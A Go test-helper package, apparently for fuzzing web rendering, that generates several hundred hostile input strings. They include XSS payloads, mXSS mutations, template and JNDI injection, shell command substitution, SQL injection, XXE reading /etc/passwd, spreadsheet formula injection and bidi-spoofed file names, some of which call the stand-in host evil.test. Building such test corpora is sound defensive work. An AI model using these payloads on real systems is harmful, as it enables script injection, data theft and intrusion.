// Package hostiletest gives tests the texts of people who want a page to do more than show them: markup, addresses that are scripts,
// templates of frameworks, marks that turn the writing, and the like. Each is made of a small table, and none repeats.
package hostiletest

import (
	"slices"
	"strings"
)

// act is what a text has the page do if it gets the chance: it leaves a trace, and asks a stranger's server.
const act = `globalThis.hacked=1,fetch('//evil.test/x')`

// Texts returns more than 300 texts, always the same ones.
func Texts() []string {
	var list []string
	for _, family := range [][]string{elements, broken(), handlers(), addresses(), entities, templates, directions(), styles, objects, sizes(), names, mutated} {
		for _, text := range family {
			list = append(list, strings.ReplaceAll(text, "ACT", act))
		}
	}
	slices.Sort(list)
	return slices.Compact(list)
}

// Harmless returns a text of the same length and words that asks for nothing: whatever a page makes of it, it may make of the hostile one,
// too. The beginning of an address stays, since a page decides by it.
func Harmless(text string) string {
	begin := ""
	for _, b := range []string{"https://", "http://", "/"} {
		if rest, ok := strings.CutPrefix(text, b); ok {
			begin, text = b, rest
			break
		}
	}
	return begin + strings.Map(func(r rune) rune {
		if r == ' ' || r == '\n' {
			return r
		}
		return 'x'
	}, text)
}

// elements run scripts or load something by their mere presence.
var elements = []string{
	`<script>ACT</script>`, `<script src=//evil.test/x.js></script>`, `<script type=module>import('//evil.test/x.js')</script>`, `<SCRIPT/x>ACT//`,
	`<scr<script>ipt>ACT</scr</script>ipt>`, `<img src=x onerror="ACT">`, `<img src=//evil.test/x.png>`, `<img srcset="//evil.test/x.png 1x">`, `<image href=//evil.test/x>`,
	`<svg onload="ACT">`, `<svg><script>ACT</script></svg>`, `<svg><use href="//evil.test/x.svg#x"></svg>`, `<svg><animate onbegin="ACT" attributeName=x dur=1s>`,
	`<svg><foreignObject><img src=x onerror="ACT"></foreignObject></svg>`, `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`, `<iframe src="javascript:parent.hacked=1"></iframe>`,
	`<iframe src=//evil.test></iframe>`, `<object data=//evil.test/x></object>`, `<embed src=//evil.test/x>`, `<video src=//evil.test/x onerror="ACT">`, `<audio src=//evil.test/x autoplay>`,
	`<video poster=//evil.test/x>`, `<source srcset=//evil.test/x>`, `<track src=//evil.test/x>`, `<link rel=stylesheet href=//evil.test/x.css>`, `<link rel=prefetch href=//evil.test/x>`,
	`<style>@import url(//evil.test/x.css)</style>`, `<meta http-equiv=refresh content="0;url=//evil.test">`, `<base href=//evil.test/>`, `<form action=//evil.test><button>OK</button></form>`,
	`<button formaction="javascript:ACT">OK</button>`, `<input autofocus onfocus="ACT">`, `<select autofocus onfocus="ACT">`, `<textarea autofocus onfocus="ACT">`, `<details open ontoggle="ACT">`,
	`<marquee onstart="ACT">x</marquee>`, `<body onload="ACT">`, `<frameset onload="ACT">`, `<a href="javascript:ACT">click</a>`, `<a href=//evil.test ping=//evil.test/p>x</a>`,
	`<math href="javascript:ACT">x</math>`, `<table background=//evil.test/x>`, `<template shadowrootmode=open><script>ACT</script></template>`, `<slot name=x>`, `<porchlight-panel>`,
	`<dialog open onclose="ACT">`, `<p popover id=x><button popovertarget=x onclick="ACT">`, `<isindex action="javascript:ACT">`, `<xmp><script>ACT</script>`, `<b>bold</b><br><hr>`,
}

// broken are elements behind what ends the place in which a text may stand.
func broken() (list []string) {
	for _, end := range []string{`">`, `'>`, `-->`, `]]>`, "`>", `</textarea>`, `</title>`, `</script>`, `</style>`, `</noscript>`, `</template>`, `</option></select>`, `</iframe>`, `<!--`, `<![CDATA[`, `<plaintext>`, `%>`, `?>`, "\x00>"} {
		list = append(list, end+`<img src=x onerror="ACT">`, end+`<script>ACT</script>`)
	}
	return list
}

// handlers end an attribute and add another.
func handlers() (list []string) {
	for _, quote := range []string{`"`, `'`, "`", ""} {
		for _, event := range []string{"onmouseover", "onfocus", "onanimationstart", "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange"} {
			list = append(list, quote+" autofocus tabindex=0 style=animation:x "+event+"="+quote+"ACT"+quote+" x="+quote)
		}
	}
	return list
}

// addresses are scripts, or lead to strangers.
func addresses() (list []string) {
	for _, script := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "\u00a0javascript:", "javascript&colon;", "&#106;avascript:", "javascript%3A",
		"javascript://%0a", "javascript://https://x.test/%0a", "view-source:javascript:", "feed:javascript:", "jar:javascript:", "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
		"data:image/svg+xml,<svg onload='", "data:text/javascript,", "blob:", "filesystem:"} {
		list = append(list, script+"ACT")
	}
	return append(list, "//evil.test/x", `\\evil.test\x`, "/\\evil.test/x", "///evil.test/x", "http:evil.test", "https:evil.test/x", "https://evil.test/x.png", "https://evil.test/?a='><script>ACT</script>",
		"https://chat.test@evil.test/", "https://evil.test#javascript:ACT", "https://[::1]/x", "https://evil.test/\u202egnp.exe", "http://evil.test:99999/", "https://", "mailto:a@evil.test?bcc=b", "tel:+1", "file:///etc/passwd",
		"/../../v1/status", "/faces/../../x", "?x", "#x", "about:blank", "intent://evil.test#Intent;end")
}

// entities are markup that somebody may decode, once or twice.
var entities = []string{
	`&lt;script&gt;ACT&lt;/script&gt;`, `&amp;lt;script&amp;gt;ACT`, `&#60;script&#62;ACT`, `&#x3c;img src=x onerror=ACT&#x3e;`, `&#x3C;svg/onload=ACT&#x3E`, `&ltimg src=x onerror=ACT&gt`, `&quot;&gt;&lt;img src=x&gt;`,
	`%3Cscript%3EACT%3C/script%3E`, `%253Cscript%253E`, `\u003cscript\u003eACT\u003c/script\u003e`, `\x3cscript\x3eACT`, `\74script\76`, `＜script＞ACT＜/script＞`, `‹script›`, `+ADw-script+AD4-ACT`, "\xc0\xbcscript\xc0\xbe",
	"<\u0000script>ACT</script>", "<scr\u0000ipt>ACT</script>", "<\u200bscript>ACT</script>", `&nbsp;&zwj;&#0;&#xd800;&#1114112;`, `&bsol;&Tab;&NewLine;`,
}

// templates are what frameworks, servers and shells fill in.
var templates = []string{
	`{{7*7}}`, `{{constructor.constructor('ACT')()}}`, `{{$on.constructor('ACT')()}}`, `{{{ACT}}}`, `{{#with this}}{{lookup . "constructor"}}{{/with}}`, `{{.Secret}}`, `{{template "page"}}`, `{% raw %}{% include "x" %}`,
	`${7*7}`, `${ACT}`, "`${ACT}`", `#{7*7}`, `*{7*7}`, `@{7*7}`, `@(7*7)`, `<%= 7*7 %>`, `<? system("id") ?>`, `[[7*7]]`, `[(7*7)]`, `~{x}`, `__${7*7}__::.x`, `<div ng-app ng-csp>{{$eval.constructor('ACT')()}}</div>`,
	`<div v-html="'<img src=x onerror=ACT>'">`, `<div :is="'script'" @click="ACT">`, `<div x-data x-init="ACT">`, `<div *ngIf="ACT" [innerHTML]="x">`, `<div hx-get=//evil.test hx-trigger=load>`, `<div data-bind="html: ACT">`,
	`<div dangerouslySetInnerHTML={{__html: x}}>`, `<svelte:element this=script>`, `<astro-island component-url=//evil.test>`, `<turbo-frame src=//evil.test>`, `${jndi:ldap://evil.test/x}`, `$(touch /tmp/x)`, "`id`",
	`%s%n%d%v`, `%`, `%%`, `$&`, `$1`, "$`", `\0`, `\1`, `' OR 1=1 --`, `"; DROP TABLE log; --`, `../../etc/passwd`, `=cmd|'/c calc'!A1`, `=HYPERLINK("//evil.test")`,
}

// directions turn the writing, hide, or have no sign.
func directions() (list []string) {
	for _, mark := range "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u0000\u0001\u0007\u0008\u000b\u000c\u001b\u007f\u0085\u00ad\u034f\u180e\u200b\u200d\u2028\u2029\u2060\ufeff\ufff9\ufffe\uffff\U000e0041\U0001f3fb" {
		list = append(list, "invoice"+string(mark)+"fdp.exe")
	}
	return append(list, "\u202e\u202e\u2066\u2069\u202d", "\u2069\u2069\u202c\u202c\u202e", "שלום\u202e abc", "a\u2067b\u2068c", "\u202e<script>ACT</script>", strings.Repeat("\u202b", 200)+"deep", "Z"+strings.Repeat("\u0317\u0489", 60),
		"\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e6\U0001f1e9", "\x1b[31mred\x1b[0m", "\x1b]0;title\a", "a\r\nSet-Cookie: x=1", "\ufdfd", "\xff\xfe")
}

// styles get out of a rule, or load by it.
var styles = []string{
	`*{display:none!important}`, `}*{display:none}`, `;color:red`, `red;background:url(//evil.test/x)`, `url(//evil.test/x)`, `url("javascript:ACT")`, `expression(ACT)`, `#fff}@import url(//evil.test/x.css);{`, `-moz-binding:url(//evil.test/x#y)`,
	`behavior:url(//evil.test/x.htc)`, `var(--x,url(//evil.test/x))`, `image-set("//evil.test/x" 1x)`, `</style><img src=x onerror="ACT">`, `/*`, `*/`, `\22 \3c x`, `left;position:fixed`, `attr(x)`, `#27336b;--text:url(//evil.test/x)`, `@font-face{src:url(//evil.test/x)}`,
}

// objects end a value of JSON, a line of a stream, or a document of another kind.
var objects = []string{
	`"}`, `"]}`, `\"}`, `\\`, `\`, `"`, `'`, "`", `{"__proto__":{"hacked":1}}`, `[]`, `{}`, `null`, `","state":"closed","x":"`, "\n\ndata: {\"type\":\"state\",\"state\":\"closed\"}\n\n", "\nevent: status\ndata: {}\n\n", "\nid: 99999\n",
	"a\u2028b\u2029c", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`, `</body></message><presence/>`, `<message xmlns='jabber:client'><body>x</body></message>`, "--boundary\r\nContent-Disposition: form-data; name=x\r\n\r\n",
}

// sizes are long without a place to break, or wide, or high.
func sizes() []string {
	return []string{strings.Repeat("W", 500), strings.Repeat("9", 400), strings.Repeat("a\n", 60), strings.Repeat(" ", 200) + "x", strings.Repeat("<", 300), strings.Repeat("[", 300), "https://evil.test/" + strings.Repeat("x", 400),
		strings.Repeat("<b>", 120), strings.Repeat("&amp;", 80), strings.Repeat("漢", 300), strings.Repeat("🏮", 120), strings.Repeat("a-", 200)}
}

// names mean something to the language of scripts.
var names = []string{
	"__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "toJSON", "then", "length", "innerHTML", "outerHTML", "srcdoc", "nodeName", "children", "__defineGetter__", "__lookupSetter__", "isPrototypeOf",
	"toLocaleString", "NaN", "undefined", "null", "true", "[object Object]", "-0", "1e999", "0x10", "0", "-1", "9007199254740993",
}

// mutated change their meaning when they are written out and read again (mXSS), as of public lists.
var mutated = []string{
	`<noscript><p title="</noscript><img src=x onerror=ACT>">`, `<svg></p><style><a id="</style><img src=1 onerror=ACT>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ACT&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=ACT>`, `<svg><p><style><g title="</style><img src onerror=ACT>">`, `<math><annotation-xml encoding="text/html"><style><img src onerror=ACT></style>`,
	`<x/><title>&lt;/title&gt;&lt;img src=1 onerror=ACT&gt;`, "<listing>&lt;img src=1 onerror=ACT&gt;</listing>", "<img src=`x` alt=``onerror=ACT>", `<svg><style>&lt;img src=x onerror=ACT&gt;</style>`, `<select><style></select><img src=x onerror=ACT></style>`,
	`<table><td><math><mi><style><img src=x onerror=ACT>`, `<a id=x><a id=x name=y href="cid:ACT">`, `<form id=body><input name=attributes>`, `<img name=cookie><img name=cookie>`, `<svg><desc><![CDATA[</desc><script>ACT</script>]]></svg>`,
	`<p id="--><img src=x onerror=ACT>`, `<div><template><s><template><s><img src=x onerror=ACT>x</s></template></s></template>`, `<xmp><p title="</xmp><svg/onload=ACT>">`, `<!--><img src=x onerror=ACT>-->`,
}
